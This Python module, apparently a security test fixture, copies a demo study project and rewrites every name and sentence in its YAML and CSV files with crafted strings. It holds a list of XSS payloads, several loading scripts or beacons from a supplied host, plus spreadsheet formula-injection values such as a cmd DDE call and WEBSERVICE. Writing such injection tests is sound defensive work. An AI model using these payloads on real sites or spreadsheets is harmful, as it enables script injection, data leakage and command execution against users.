"""The demo study with script and formulas wherever a delivery or a strategy holds text."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

PAYLOADS = (
    "<script src={host}/s></script>", "<ScRiPt>fetch('{host}/f')</sCrIpT>",
    "<img src={host}/i onerror=alert(1)>", "<img src=x onerror=fetch('{host}/o')>",
    "<svg onload=fetch('{host}/v')>", '"><script src={host}/q></script>', "'><img src={host}/a>",
    '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus x='", "<iframe src={host}/fr>",
    "<object data={host}/ob>", "<embed src={host}/em>",
    "<math><mi xlink:href=javascript:alert(1)>x", "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))", "![x]({host}/md)",
    "</td></tr></table><script src={host}/t></script>", "</title><script src={host}/ti></script>",
    "</style><script src={host}/st></script>", "<!--><script src={host}/c></script>-->",
    "<![CDATA[<script src={host}/cd></script>]]>", "<template><script>x</script></template>",
    "<base href={host}/b>", "<meta http-equiv=refresh content=0;url={host}/m>",
    "<link rel=stylesheet href={host}/l>", "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<style>@import'{host}/im'</style>",
    "<video poster={host}/p><source onerror=alert(1)>",
    "<form action={host}/fo><input type=submit>", "<svg><animate onbegin=alert(1)>",
    "{{7*7}}<script>x</script>", "&lt;script&gt;x&lt;/script&gt;",
    "<svg><use href={host}/u#a></svg>", "<b style=background:url({host}/bg)>x</b>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"{host}/h\")",
    "=IMPORTXML(A1)", "=WEBSERVICE(\"{host}/w\")", "=1-1", "-A1", "+cmd", "@A1", "=A1", "+A1+A2",
)  # fmt: skip
TEXTS = re.compile(
    r"^(\s+(?:- )?|)(title|name|role|theme|effort|reason|source|unit|sender|recipient|case_officer"
    r"|evidence): (?![>|])(.+)$",
    re.M,
)


class Hostile:
    """Gives every text another crafted one, and the same one wherever the text stands."""

    def __init__(self, host: str):
        self.crafted = [one.replace("{host}", host) for one in (*PAYLOADS, *FORMULAS)]
        self.given: dict[str, str] = {}

    def __getitem__(self, text: str) -> str:
        if text not in self.given:
            number = len(self.given)
            crafted = self.crafted[number % len(self.crafted)]
            self.given[text] = f"{crafted} n{chr(97 + number // 26)}{chr(97 + number % 26)}"
        return self.given[text]


def hostile_copy(demo: Path, folder: Path, host: str) -> Hostile:
    """A copy of the demo study in ``folder`` with every name and sentence crafted."""
    shutil.copytree(demo, folder)
    hostile = Hostile(host)
    study = (folder / "study.yaml").read_text(encoding="utf-8")
    for area in _listed(study):
        study = _put(study, "(: |- )", area, hostile)
    study = TEXTS.sub(lambda found: _crafted(found, hostile), study)
    (folder / "study.yaml").write_text(study, encoding="utf-8")
    strategy = (folder / "strategy.yaml").read_text(encoding="utf-8")
    strategy = TEXTS.sub(lambda found: _crafted(found, hostile), strategy)
    for theme in _themes(strategy):
        strategy = _put(strategy, "(      - )", theme, hostile)
    (folder / "strategy.yaml").write_text(strategy, encoding="utf-8")
    for path in sorted((folder / "data").glob("*.csv")):
        _rewrite(path, hostile)
    return hostile


def _put(text: str, before: str, old: str, hostile: Hostile) -> str:
    new = quoted(hostile[old])
    return re.sub(rf"{before}{re.escape(old)}$", lambda found: found[1] + new, text, flags=re.M)


def _listed(study: str) -> list[str]:
    block = study.split("\nareas:\n")[1].split("\nperiods:")[0]
    return re.findall(r"(?:treated: |- )(.+)", block)


def _themes(strategy: str) -> list[str]:
    return re.findall(r"^      - ([A-ZÆØÅ].+)$", strategy, flags=re.M)


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _crafted(found: re.Match, hostile: Hostile) -> str:
    before, key, text = found.groups()
    if key == "name" and not before:
        return found.group()
    return f"{before}{key}: {quoted(hostile[text])}"


def _rewrite(path: Path, hostile: Hostile) -> None:
    with path.open(encoding="utf-8", newline="") as read:
        rows = list(csv.reader(read, delimiter=";"))
    known = hostile.given
    rows = [[known.get(cell, cell) for cell in row] for row in rows]
    with path.open("w", encoding="utf-8", newline="") as write:
        csv.writer(write, delimiter=";", lineterminator="\n").writerows(rows)
